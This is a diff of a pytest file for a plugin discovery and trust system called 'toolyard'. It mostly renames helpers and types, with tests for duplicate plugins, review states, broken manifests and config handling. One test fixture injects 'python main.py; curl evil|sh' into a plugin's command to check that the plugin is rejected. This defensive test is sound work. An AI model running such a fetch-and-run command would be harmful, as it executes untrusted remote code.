@@ -1,4 +1,4 @@
-"""Which plugins there are, and what is wrong with those that cannot run."""
+"""Plugins that are found, and the problems of those that cannot run."""
 
 import os
 import shutil
@@ -12,8 +12,8 @@ from tests.plugins.folders import PROGRAMS, make_plugin, manifest_text, plugins_
 from toolyard.doctor import examine
 from toolyard.plugins.command_line import Programs
 from toolyard.plugins.discovery import Changes, Plugins
-from toolyard.plugins.plugin import Origin, Plugin, State
-from toolyard.plugins.roots import MAX_FOLDERS, Root, folders_of, roots_of, shipped_folder
+from toolyard.plugins.plugin import Origin, Plugin, PluginState
+from toolyard.plugins.roots import MAX_FOLDERS, PluginRoot, find_plugin_folders, list_roots, shipped_folder
 from toolyard.plugins.trust import Trust
 
 
@@ -28,18 +28,18 @@ def home(tmp_path: Path) -> Path:
     return tmp_path / "home"
 
 
-def refreshed(plugins: Plugins) -> Plugins:
+def refresh(plugins: Plugins) -> Plugins:
     plugins.refresh()
     return plugins
 
 
-def only(plugins: Plugins) -> Plugin:
+def refresh_only_plugin(plugins: Plugins) -> Plugin:
     plugins.refresh()
     (plugin,) = plugins.all
     return plugin
 
 
-def states(plugins: Plugins) -> dict[str, State]:
+def states(plugins: Plugins) -> dict[str, PluginState]:
     plugins.refresh()
     return {plugin.folder.name: plugin.state for plugin in plugins.all}
 
@@ -53,8 +53,8 @@ def test_plugins_are_found_in_every_plugin_folder(tmp_path: Path) -> None:
     make_plugin(given, "Given")
     (home / "plugins/no-plugin").mkdir()
     (home / "plugins/file").write_text("")
-    roots = [root for root in roots_of(project, home, [given]) if root.origin is not Origin.SHIPPED]
-    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home, folders=[tmp_path]), programs=PROGRAMS))
+    roots = [root for root in list_roots(project, home, [given]) if root.origin is not Origin.SHIPPED]
+    plugins = refresh(Plugins(roots, home=home, trust=Trust(home, folders=[tmp_path]), programs=PROGRAMS))
     assert [(p.name, p.origin) for p in plugins.all] == [
         ("Given", Origin.GIVEN),
         ("InHome", Origin.HOME),
@@ -68,11 +68,15 @@ def test_plugins_are_found_in_every_plugin_folder(tmp_path: Path) -> None:
 def test_a_shipped_plugin_needs_no_review_under_whatever_folder_it_is_found(root: Path, home: Path) -> None:
     make_plugin(root, "Ours")
     make_plugin(root.parent / "theirs", "Theirs")
-    roots = [Root(root, Origin.GIVEN), Root(root.parent / "theirs", Origin.HOME), Root(root, Origin.SHIPPED)]
-    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home), programs=PROGRAMS))
+    roots = [
+        PluginRoot(root, Origin.GIVEN),
+        PluginRoot(root.parent / "theirs", Origin.HOME),
+        PluginRoot(root, Origin.SHIPPED),
+    ]
+    plugins = refresh(Plugins(roots, home=home, trust=Trust(home), programs=PROGRAMS))
     assert [(p.name, p.origin, p.state) for p in plugins.all] == [
-        ("Ours", Origin.SHIPPED, State.READY),
-        ("Theirs", Origin.HOME, State.NEEDS_REVIEW),
+        ("Ours", Origin.SHIPPED, PluginState.READY),
+        ("Theirs", Origin.HOME, PluginState.NEEDS_REVIEW),
     ]
 
 
@@ -80,9 +84,9 @@ def test_a_shipped_plugin_needs_no_review_under_whatever_folder_it_is_found(root
 def test_a_shipped_plugin_runs_in_our_interpreter_and_others_in_the_owners(root: Path, home: Path) -> None:
     make_plugin(root, "Ours")
     make_plugin(root.parent / "theirs", "Theirs")
-    roots = [Root(root, Origin.SHIPPED), Root(root.parent / "theirs", Origin.HOME)]
+    roots = [PluginRoot(root, Origin.SHIPPED), PluginRoot(root.parent / "theirs", Origin.HOME)]
     programs = Programs(os.defpath, python="/opt/theirs/python")
-    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home), programs=programs))
+    plugins = refresh(Plugins(roots, home=home, trust=Trust(home), programs=programs))
     assert [p.command.argv[0] for p in plugins.all if p.command] == [sys.executable, "/opt/theirs/python"]
 
 
@@ -96,14 +100,14 @@ def test_the_shipped_folder_is_the_one_of_the_checkout_or_of_the_package() -> No
 @pytest.mark.requirement("plugin:discovery")
 def test_a_folder_that_is_itself_a_plugin_counts_as_one(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Single")
-    assert only(plugins_in(folder, home=home)).name == "Single"
+    assert refresh_only_plugin(plugins_in(folder, home=home)).name == "Single"
 
 
 @pytest.mark.requirement("plugin:discovery")
 def test_nothing_is_made_and_nothing_found_where_there_are_no_plugin_folders(tmp_path: Path) -> None:
-    roots = [root for root in roots_of(tmp_path / "project", tmp_path / "home") if root.origin is not Origin.SHIPPED]
+    roots = [root for root in list_roots(tmp_path / "project", tmp_path / "home") if root.origin is not Origin.SHIPPED]
     plugins = Plugins(roots, home=tmp_path / "home", trust=Trust(tmp_path / "home"), programs=PROGRAMS)
-    assert (plugins.refresh(), plugins.all, plugins.places()) == (Changes(), (), frozenset())
+    assert (plugins.refresh(), plugins.all, plugins.watched_folders()) == (Changes(), (), frozenset())
     assert list(tmp_path.iterdir()) == []
 
 
@@ -125,8 +129,8 @@ def test_a_block_file_disables_a_plugin(root: Path, home: Path, both: bool) -> N
     shutil.copy(manifest, f"{manifest}.block")
     if not both:
         manifest.unlink()
-    plugin = only(plugins_in(root, home=home))
-    assert (plugin.name, plugin.state, plugin.manifest is not None) == ("Blocked", State.DISABLED, True)
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
+    assert (plugin.name, plugin.state, plugin.manifest is not None) == ("Blocked", PluginState.DISABLED, True)
     assert ".block" in plugin.reason
 
 
@@ -134,34 +138,34 @@ def test_a_block_file_disables_a_plugin(root: Path, home: Path, both: bool) -> N
 def test_a_plugin_is_disabled_by_command_in_every_run_until_it_is_enabled(root: Path, home: Path) -> None:
     before = (make_plugin(root, "Some") / "plugin-manifest.json").read_bytes()
     plugins = plugins_in(root, home=home)
-    plugins.disable(only(plugins))
-    assert only(plugins).state is State.DISABLED
-    assert "toolyard plugin enable Some" in only(plugins_in(root, home=home)).reason
+    plugins.disable(refresh_only_plugin(plugins))
+    assert refresh_only_plugin(plugins).state is PluginState.DISABLED
+    assert "toolyard plugin enable Some" in refresh_only_plugin(plugins_in(root, home=home)).reason
     assert (home / "disabled.json").stat().st_mode & 0o777 == 0o600
-    plugins.enable(only(plugins))
-    assert only(plugins_in(root, home=home)).state is State.READY
+    plugins.enable(refresh_only_plugin(plugins))
+    assert refresh_only_plugin(plugins_in(root, home=home)).state is PluginState.READY
     assert (root / "Some/plugin-manifest.json").read_bytes() == before
 
 
 @pytest.mark.requirement("plugin:disabled")
 def test_nothing_runs_while_nobody_can_tell_what_is_disabled(root: Path, home: Path) -> None:
     make_plugin(root, "Some")
-    plugins = refreshed(plugins_in(root, home=home))
+    plugins = refresh(plugins_in(root, home=home))
     home.mkdir()
     (home / "disabled.json").write_text("{ half")
     current = plugins.current("Some")
     assert current is not None
-    assert (current.state, "disabled.json is not valid JSON" in current.reason) == (State.DISABLED, True)
+    assert (current.state, "disabled.json is not valid JSON" in current.reason) == (PluginState.DISABLED, True)
 
 
 @pytest.mark.requirement("plugin:disabled")
 def test_disabling_takes_effect_at_the_next_call_also_from_another_process(root: Path, home: Path) -> None:
     make_plugin(root, "Some")
-    running, other = refreshed(plugins_in(root, home=home)), refreshed(plugins_in(root, home=home))
+    running, other = refresh(plugins_in(root, home=home)), refresh(plugins_in(root, home=home))
     other.disable(other.all[0])
     current = running.current("Some")
     assert current is not None
-    assert current.state is State.DISABLED
+    assert current.state is PluginState.DISABLED
 
 
 @pytest.mark.requirement("s:S-85", "r:R30")
@@ -169,13 +173,13 @@ def test_a_second_plugin_of_the_same_name_is_refused_and_told(root: Path, home: 
     make_plugin(root, "Same", folder="A")
     make_plugin(root, "Same", folder="B")
     plugins = plugins_in(root, home=home)
-    assert states(plugins) == {"A": State.READY, "B": State.DUPLICATE}
+    assert states(plugins) == {"A": PluginState.READY, "B": PluginState.DUPLICATE}
     assert str(root / "A") in plugins.all[1].reason
     holder = plugins.get("Same")
     assert holder is not None
     assert holder.folder == root / "A"
     plugins.disable(holder)
-    assert states(plugins) == {"A": State.DISABLED, "B": State.READY}
+    assert states(plugins) == {"A": PluginState.DISABLED, "B": PluginState.READY}
 
 
 @pytest.mark.requirement("s:S-85")
@@ -183,8 +187,8 @@ def test_an_unreviewed_plugin_takes_no_name_from_one_that_may_run(root: Path, ho
     make_plugin(root / "untrusted", "Same")
     make_plugin(root / "trusted", "Same")
     plugins = plugins_in(root / "untrusted", root / "trusted", home=home, trusted=[root / "trusted"])
-    waiting, running = refreshed(plugins).all
-    assert (waiting.state, running.state) == (State.NEEDS_REVIEW, State.READY)
+    waiting, running = refresh(plugins).all
+    assert (waiting.state, running.state) == (PluginState.NEEDS_REVIEW, PluginState.READY)
     assert waiting.reason.endswith(f"until then the one in {running.folder} runs")
     assert plugins.get("Same") == running
 
@@ -199,14 +203,14 @@ def test_of_plugins_with_one_name_the_given_one_wins_then_home_project_and_shipp
         make_plugin(root, "Same")
         for root in (given, home / "plugins", project / "Plugin", project / "plugins", shipped)
     ]
-    roots = roots_of(project, home, [given])
+    roots = list_roots(project, home, [given])
     trust = Trust(home, folders=[tmp_path])
     plugins = Plugins(roots, home=home, trust=trust, programs=PROGRAMS)
     for number, folder in enumerate(folders):
-        refreshed(plugins)
-        first, *others = [plugin for plugin in plugins.all if plugin.state is not State.DISABLED]
-        assert (first.folder, first.state, first.hides) == (folder, State.READY, tuple(folders[number + 1 :]))
-        assert [(one.state, one.hidden_by) for one in others] == [(State.DUPLICATE, folder)] * len(others)
+        refresh(plugins)
+        first, *others = [plugin for plugin in plugins.all if plugin.state is not PluginState.DISABLED]
+        assert (first.folder, first.state, first.hides) == (folder, PluginState.READY, tuple(folders[number + 1 :]))
+        assert [(one.state, one.hidden_by) for one in others] == [(PluginState.DUPLICATE, folder)] * len(others)
         assert all(f"hidden by the plugin in {folder}" in one.reason for one in others)
         assert plugins.get("Same") == first
         plugins.disable(first)
@@ -220,17 +224,21 @@ def test_what_is_hidden_stays_hidden_after_its_review_and_what_changed_gives_the
         make_plugin(root / place, "Same")
     trusted = [root / "second"]
     plugins = plugins_in(root / "first", root / "second", root / "third", home=home, trusted=trusted)
-    assert [plugin.state for plugin in refreshed(plugins).all] == [
-        State.NEEDS_REVIEW,
-        State.READY,
-        State.DUPLICATE,  # no review would give it the name
+    assert [plugin.state for plugin in refresh(plugins).all] == [
+        PluginState.NEEDS_REVIEW,
+        PluginState.READY,
+        PluginState.DUPLICATE,  # no review would give it the name
     ]
     trust = Trust(home, folders=trusted)
     trust.allow(trust.review(plugins.all[0], ()), at="now")
-    assert [plugin.state for plugin in refreshed(plugins).all] == [State.READY, State.DUPLICATE, State.DUPLICATE]
+    assert [plugin.state for plugin in refresh(plugins).all] == [
+        PluginState.READY,
+        PluginState.DUPLICATE,
+        PluginState.DUPLICATE,
+    ]
     (root / "first/Same/main.py").write_text("print('changed')\n")
-    changed, running, _ = refreshed(plugins).all
-    assert (changed.state, running.state) == (State.CHANGED, State.READY)
+    changed, running, _ = refresh(plugins).all
+    assert (changed.state, running.state) == (PluginState.CHANGED, PluginState.READY)
     assert f"until then the one in {running.folder} runs" in changed.reason
 
 
@@ -238,16 +246,16 @@ def test_what_is_hidden_stays_hidden_after_its_review_and_what_changed_gives_the
 @pytest.mark.parametrize("name", ["FileOperator", "fileoperator"])
 def test_the_names_of_built_in_tools_are_reserved(root: Path, home: Path, name: str) -> None:
     make_plugin(root, name)
-    plugin = only(plugins_in(root, home=home, reserved=["Read", "FileOperator"]))
-    assert (plugin.state, "built-in" in plugin.reason) == (State.SHADOWED, True)
+    plugin = refresh_only_plugin(plugins_in(root, home=home, reserved=["Read", "FileOperator"]))
+    assert (plugin.state, "built-in" in plugin.reason) == (PluginState.SHADOWED, True)
 
 
 @pytest.mark.requirement("plugin:discovery")
 @pytest.mark.parametrize("kind", ["messagePreprocessor", "service", "hybridservice"])
 def test_a_plugin_of_a_type_that_cannot_run_here_is_listed_with_the_reason(root: Path, home: Path, kind: str) -> None:
     make_plugin(root, "Theirs", pluginType=kind, entryPoint={"script": "main.js"})
-    plugin = only(plugins_in(root, home=home))
-    assert (plugin.state, bool(plugin.reason)) == (State.UNSUPPORTED, True)
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
+    assert (plugin.state, bool(plugin.reason)) == (PluginState.UNSUPPORTED, True)
 
 
 def spoil(folder: Path, how: str) -> None:
@@ -287,7 +295,7 @@ def test_a_bad_manifest_costs_only_its_own_plugin(root: Path, home: Path, how: s
     make_plugin(root, "Good")
     spoil(make_plugin(root, "Bad"), how)
     plugins = plugins_in(root, home=home)
-    assert states(plugins) == {"Bad": State.BROKEN, "Good": State.READY}
+    assert states(plugins) == {"Bad": PluginState.BROKEN, "Good": PluginState.READY}
     bad = plugins.all[0]
     assert bad.problems
     assert bad.reason.startswith("plugin-manifest.json:")
@@ -300,10 +308,10 @@ def test_a_bad_manifest_costs_only_its_own_plugin(root: Path, home: Path, how: s
 def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root: Path, home: Path, how: str) -> None:
     folder = make_plugin(root, "Bad", version="1")
     plugins = plugins_in(root, home=home)
-    first = only(plugins)
+    first = refresh_only_plugin(plugins)
     spoil(folder, how)
-    kept = only(plugins)
-    assert (kept.state, kept.manifest) == (State.READY, first.manifest)
+    kept = refresh_only_plugin(plugins)
+    assert (kept.state, kept.manifest) == (PluginState.READY, first.manifest)
     assert "last good version" in kept.reason
     assert any(not problem.warning for problem in kept.problems)
     assert not plugins.refresh()
@@ -313,7 +321,7 @@ def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root
     else:
         manifest.unlink()
     manifest.write_text(manifest_text("Bad", version="2"))
-    mended = only(plugins)
+    mended = refresh_only_plugin(plugins)
     assert mended.manifest is not None
     assert (mended.manifest.version, mended.reason, mended.problems) == ("2", "", ())
 
@@ -322,7 +330,7 @@ def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root
 def test_the_place_of_a_fault_is_told(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Bad")
     (folder / "plugin-manifest.json").write_bytes(b'{\n  "name": "B\xff"\n}')
-    problem = only(plugins_in(root, home=home)).problems[0]
+    problem = refresh_only_plugin(plugins_in(root, home=home)).problems[0]
     assert str(problem) == "plugin-manifest.json:2:13: is not UTF-8. Fix: save it as UTF-8"
 
 
@@ -336,10 +344,10 @@ def test_links_that_lead_nowhere_or_in_circles_are_listed_and_hurt_nobody(root: 
     (root / "linked").symlink_to(root.parent / "elsewhere/Linked")
     plugins = plugins_in(root, home=home, trusted=[root, root.parent / "elsewhere"])
     assert states(plugins) == {
-        "circle": State.BROKEN,
-        "dangling": State.BROKEN,
-        "Good": State.READY,
-        "Linked": State.READY,
+        "circle": PluginState.BROKEN,
+        "dangling": PluginState.BROKEN,
+        "Good": PluginState.READY,
+        "Linked": PluginState.READY,
     }
 
 
@@ -347,13 +355,13 @@ def test_links_that_lead_nowhere_or_in_circles_are_listed_and_hurt_nobody(root: 
 def test_a_half_written_config_is_never_used(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Some", config='TOKEN="whole"\n')
     plugins = plugins_in(root, home=home)
-    assert only(plugins).config == {"TOKEN": "whole"}
+    assert refresh_only_plugin(plugins).config == {"TOKEN": "whole"}
     (folder / "config.env").write_text('TOKEN="ne')
-    kept = only(plugins)
-    assert (kept.state, kept.config) == (State.READY, {"TOKEN": "whole"})
+    kept = refresh_only_plugin(plugins)
+    assert (kept.state, kept.config) == (PluginState.READY, {"TOKEN": "whole"})
     assert "config.env:1" in kept.reason
-    fresh = only(plugins_in(root, home=home))
-    assert (fresh.state, fresh.config) == (State.BROKEN, {})
+    fresh = refresh_only_plugin(plugins_in(root, home=home))
+    assert (fresh.state, fresh.config) == (PluginState.BROKEN, {})
     (folder / "config.env").write_text('TOKEN="new"\n')
     assert plugins.refresh() == Changes(changed=("Some",))
     assert plugins.all[0].config == {"TOKEN": "new"}
@@ -362,24 +370,24 @@ def test_a_half_written_config_is_never_used(root: Path, home: Path) -> None:
 @pytest.mark.requirement("plugin:config:file")
 def test_an_odd_line_of_config_env_is_a_warning(root: Path, home: Path) -> None:
     make_plugin(root, "Some", config="A=1\nwhat?\n")
-    plugin = only(plugins_in(root, home=home))
-    assert (plugin.state, plugin.config) == (State.READY, {"A": "1"})
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
+    assert (plugin.state, plugin.config) == (PluginState.READY, {"A": "1"})
     assert [(p.file, p.line, p.warning) for p in plugin.problems] == [("config.env", 2, True)]
 
 
 @pytest.mark.requirement("s:S-90")
 def test_secrets_that_other_users_could_read_are_told(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Some", config="API_KEY=abc\n")
-    assert only(plugins_in(root, home=home)).problems == ()
+    assert refresh_only_plugin(plugins_in(root, home=home)).problems == ()
     (folder / "config.env").chmod(0o644)
-    assert [p.fix for p in only(plugins_in(root, home=home)).problems] == ["chmod 600 config.env"]
+    assert [p.fix for p in refresh_only_plugin(plugins_in(root, home=home)).problems] == ["chmod 600 config.env"]
 
 
 @pytest.mark.requirement("plugin:command", "s:S-81")
 def test_a_command_that_cannot_run_breaks_the_plugin_and_says_why(root: Path, home: Path) -> None:
     make_plugin(root, "Some", entryPoint={"command": "python main.py; curl evil|sh"})
-    plugin = only(plugins_in(root, home=home))
-    assert (plugin.state, plugin.command) == (State.BROKEN, None)
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
+    assert (plugin.state, plugin.command) == (PluginState.BROKEN, None)
     assert plugin.reason.startswith("entryPoint.command: ';'")
 
 
@@ -400,7 +408,7 @@ def test_a_refresh_tells_what_was_added_changed_and_removed(root: Path, home: Pa
 @pytest.mark.requirement("r:R31")
 def test_a_call_uses_the_manifest_that_stands_there_now(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Some", version="1")
-    plugins = refreshed(plugins_in(root, home=home))
+    plugins = refresh(plugins_in(root, home=home))
     before = plugins.current("Some")
     assert plugins.current("Some") is before
     shutil.rmtree(folder)
@@ -419,13 +427,17 @@ def test_a_call_uses_the_manifest_that_stands_there_now(root: Path, home: Path) 
 def test_the_keys_of_other_plugins_are_known(root: Path, home: Path) -> None:
     make_plugin(root, "A", config="A_KEY=1\n")
     make_plugin(root, "B", config="B_KEY=1\n")
-    assert refreshed(plugins_in(root, home=home)).keys_of_others("A") == {"B_KEY"}
+    assert refresh(plugins_in(root, home=home)).keys_of_others("A") == {"B_KEY"}
 
 
 @pytest.mark.requirement("plugin:discovery")
 def test_each_folder_is_one_plugin_however_often_it_is_found(root: Path) -> None:
     folder = make_plugin(root, "Some")
-    found = list(folders_of([Root(root, Origin.PROJECT), Root(folder, Origin.GIVEN), Root(root, Origin.HOME)]))
+    found = list(
+        find_plugin_folders(
+            [PluginRoot(root, Origin.PROJECT), PluginRoot(folder, Origin.GIVEN), PluginRoot(root, Origin.HOME)]
+        )
+    )
     assert found == [(folder, Origin.PROJECT, None)]
 
 
@@ -435,13 +447,13 @@ def test_what_is_left_out_of_a_folder_with_too_many_plugins_is_told(tmp_path: Pa
     for number in reversed(range(many)):
         (folder / f"P{number:05}").mkdir(parents=True)
     (folder / "P").mkdir()  # comes first
-    found = list(folders_of([Root(folder, Origin.HOME)]))
+    found = list(find_plugin_folders([PluginRoot(folder, Origin.HOME)]))
     paths = [path.name for path, _, problem in found if not problem]
     assert paths == ["P", *(f"P{number:05}" for number in range(MAX_FOLDERS - 1))]
     message = f"4 of its {many + 1} folders are left out: all after 'P{MAX_FOLDERS - 2:05}'"
     assert [(path, problem.message) for path, _, problem in found if problem] == [(folder, message)]
-    plugins = refreshed(plugins_in(folder, home=tmp_path / "home"))
-    assert [(one.state, one.reason) for one in plugins.all if one.folder == folder] == [(State.BROKEN, message)]
+    plugins = refresh(plugins_in(folder, home=tmp_path / "home"))
+    assert [(one.state, one.reason) for one in plugins.all if one.folder == folder] == [(PluginState.BROKEN, message)]
     (tmp_path / "project").mkdir()
     checks = list(examine(str(tmp_path / "project"), str(tmp_path / "home")))
     (told,) = [one for one in checks if one.name == "plugins"]
